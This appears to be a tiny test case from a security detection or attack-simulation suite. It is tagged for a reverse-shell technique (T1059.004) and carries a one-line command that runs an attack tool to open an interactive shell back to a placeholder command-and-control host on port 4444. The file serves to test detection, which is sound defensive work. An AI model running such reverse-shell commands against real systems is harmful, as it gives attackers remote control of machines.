# category: suspicious-network
# technique: T1059.004
# art: no
# expect: reverse-shell
# net: yes
# desc: an implant connects out, wires the socket onto its stdio and becomes sh -i
timeout 10 exr-attack dup-shell "$C2" 4444 || true
